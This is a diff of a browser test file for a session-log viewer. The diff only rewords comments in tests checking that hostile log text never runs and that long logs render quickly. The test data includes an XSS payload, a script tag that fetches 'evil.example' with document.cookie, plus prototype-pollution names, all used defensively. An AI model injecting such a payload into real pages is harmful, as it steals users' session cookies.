@@ -9,14 +9,14 @@ import { addSession, id, prompt, said } from "../support/sessions-command.ts";
 import { cards, entry, press, shownEvents, startSession } from "../support/browser/cards.ts";
 import { openDesk, type Desk } from "../support/browser/desk.ts";
 
-/** Logs that mean harm, and logs that are long: nothing in them runs, and the page stays quick. */
+/** Hostile logs and long logs: nothing in them runs, and the page stays quick. */
 
 const [HOSTILE, LONG, DEEP, READ] = [id(1), id(2), id(3), id(4)];
 const EVENTS = 10_000;
-/** Twelve pages, four times of what the page keeps. */
+/** Twelve pages, four times as many as the page keeps. */
 const READ_EVENTS = 2_400;
 
-/** Sets a mark, or asks for something, wherever it is run. */
+/** Sets a mark, or sends a request, if it runs. */
 const RUN = "window.harmed=true;fetch('https://evil.example/?'+document.cookie)";
 const PAYLOADS = [
   `<script>${RUN}</script>`,
@@ -71,7 +71,7 @@ beforeAll(async () => {
   desk = await openDesk({
     async seeded(node) {
       const bad = [ALL, NESTED, QUOTED, LINE, `\`\`\`\n${LINE}\n\`\`\``, `| ${"a | ".repeat(3_000)}`].map(said);
-      // Words that every object of JavaScript knows.
+      // Names that every object of JavaScript has.
       const todos = ["constructor", "__proto__"].map((status) => ({ content: status, status }));
       const tools = [
         ...ofTool("TodoWrite", { todos }, "toString"),
@@ -88,7 +88,7 @@ beforeAll(async () => {
 afterEach(async (test) => desk.clear(test));
 afterAll(async () => desk.close());
 
-/** What hostile text has done; [] when it was text. */
+/** Effects of hostile text; [] when it stayed text. */
 async function harm(page: Page): Promise<string[]> {
   return page.evaluate<string[]>(`[
     ...(window.harmed === undefined ? [] : ["something ran"]),
@@ -137,7 +137,7 @@ describe("hostile text", () => {
       .toBe(0);
     await window.picture("hostile", false);
     expect(await harm(page)).toEqual([]);
-    // It stands in for all links: none is one that could do harm.
+    // Checks all links: none is harmful.
     await page.getByText("click me").first().click();
     expect(page.url()).toContain("/console/#/");
     const began = Date.now();
@@ -189,7 +189,7 @@ describe("hostile text", () => {
 });
 
 describe("a long log", () => {
-  /** More is not drawn, however long one reads. */
+  /** The most elements that are drawn, however far the user scrolls. */
   const MOST_NODES = 8_000;
   const nodes = async (page: Page) => page.evaluate<number>('document.querySelectorAll("*").length');
   const first = async (page: Page) => (await shownEvents(page))[0] ?? 0;
@@ -220,7 +220,7 @@ describe("a long log", () => {
       most = Math.max(most, await nodes(page));
       await page.evaluate("scrollTo(0, 0)");
       await expect.poll(async () => first(page)).toBeLessThan(at);
-      // What was in view stays there when more comes before it.
+      // The text in view stays there when more is loaded above it.
       expect(await where(page, at)).toBeGreaterThan(-200);
       expect(await where(page, at)).toBeLessThan(900);
     }
@@ -248,7 +248,7 @@ describe("a long log", () => {
 
   it("opens around an event of a subagent's subagent to show it, and around the next one that is asked for", async () => {
     const { page } = await desk.open({ hash: `#/sessions/${DEEP}?event=100` });
-    // 1 prompt, 1 agent, 60 of its words, 1 agent: the first words of the inner one are event 64.
+    // 1 prompt, 1 agent, 60 of its texts, 1 agent: the first text of the inner one is event 64.
     await page.getByText("Inner 36.", { exact: true }).waitFor();
     await expect.poll(async () => where(page, 100)).toBeGreaterThan(0);
     expect(await where(page, 100)).toBeLessThan(900);
